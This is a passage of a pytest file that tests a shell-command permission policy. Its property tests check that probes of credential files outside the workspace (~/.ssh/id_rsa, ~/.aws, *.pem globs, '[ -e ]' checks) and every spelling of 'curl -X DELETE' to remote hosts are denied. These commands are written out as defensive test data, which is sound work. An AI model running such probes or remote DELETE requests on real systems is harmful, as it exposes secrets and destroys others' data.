        files[".gitlab-ci.yml"] = "include:\n" + "".join(f"  - local: {k}\n" for k in gl)
    made[chunk] = scratch_repo(tmp.mktemp("rt45m") / "ws", files, tracked=("README.md",))
    return made[chunk]


def _many_file(n: int) -> str:
    run = MANY_VALUES[n][1]
    return f"m{n}/p.js" if "python3" in run or "node" in run else f"m{n}/p.sh"


@pytest.mark.parametrize(
    ("n", "run", "protected"),
    [(n, run, p) for n, (_, run, p) in enumerate(MANY_VALUES)],
    ids=[f"{n}-{r[:30]}" for n, (_, r, _) in enumerate(MANY_VALUES)],
)
def test_class11_many_values_of_a_ci_variable(
    policy: Policy,
    many_wss: dict[int, Path],
    tmp_path_factory: pytest.TempPathFactory,
    n: int,
    run: str,
    protected: bool,
) -> None:
    ws = _many_ws(many_wss, tmp_path_factory, n)
    assert_append(policy, ws, _many_file(n), protected, run)


# ---- properties --------------------------------------------------------------------------
_OUTSIDE = ("/root", "/root/.ssh", "/home/u/.aws", "~/.ssh", "../x", "/etc/ssh", "lnk")
_TEST_OPS = ("-e", "-f", "-d", "-r", "-s", "-L", "-h", "-x", "-w", "-O", "-G", "-N")


@SETTINGS
@given(
    op=st.sampled_from(_TEST_OPS),
    where=st.sampled_from(_OUTSIDE),
    form=st.sampled_from(("test {op} {p}", "[ {op} {p} ]", "[[ {op} {p} ]]", "[ ! {op} {p} ]")),
    glob=st.sampled_from(("*", "*.pem", "id_*", "?", "[a-z]*")),
)
def test_property_outside_paths_are_not_looked_at(
    policy: Policy, ws: Path, op: str, where: str, form: str, glob: str
) -> None:
    """Every file operator of test on a path outside, and every glob below a folder outside,
    is refused like `stat`/`ls` of it; the same forms inside are allowed."""
    verdict, rule = exec_verdict(policy, ws, form.format(op=op, p=where + "/id_rsa"))
    assert verdict is not A, (form, op, where, rule)
    verdict, rule = exec_verdict(policy, ws, f"echo {where}/{glob}")
    assert verdict is not A, (where, glob, rule)
    verdict, rule = exec_verdict(policy, ws, form.format(op=op, p="src/app.py"))
    assert verdict is A, (form, op, rule)


_FLAGS = ("s", "S", "f", "L", "k", "v", "i")


@SETTINGS
@given(
    flags=st.lists(st.sampled_from(_FLAGS), max_size=3),
    spelling=st.sampled_from(("-X{m}", "-X {m}", "--request {m}", "-{f}X{m}", "-{f}X {m}")),
    method=st.sampled_from(("DELETE", "delete", "Delete")),
    host=st.sampled_from(("https://api.github.com/x", "example.com/x", "http://10.0.0.1/x")),
    local=st.sampled_from(("http://localhost:8000/x", "127.0.0.1:5000/x", "http://[::1]/x")),
)
def test_property_curl_delete_spellings(
    policy: Policy,
    ws: Path,
    flags: list[str],
    spelling: str,
    method: str,
    host: str,
    local: str,
) -> None:
    """Every spelling of curl's DELETE gets one verdict: denied to another machine, allowed to
    this one."""
    f = "".join(flags) or "s"
    opt = spelling.format(m=method, f=f)
    assert exec_verdict(policy, ws, f"curl {opt} {host}")[0] is D, opt
    assert exec_verdict(policy, ws, f"curl {opt} {local}")[0] is A, opt


# ---- by effect: what bash's expansion and test show of a folder outside ---------------------
def test_by_effect_bash_lists_and_tests_outside(tmp_path: Path) -> None:
    """bash prints the names in a folder outside through a glob of `echo`, and `[ -e ]` tells
    whether a file there exists: the two looks the policy now decides as `ls` and `stat`."""
    out = tmp_path / "outside"
    out.mkdir()
    (out / "id_rsa").write_text("k\n")
    done = subprocess.run(
        ["bash", "-c", f"echo {out}/*; [ -e {out}/id_rsa ] && echo present"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert "id_rsa" in done.stdout and "present" in done.stdout
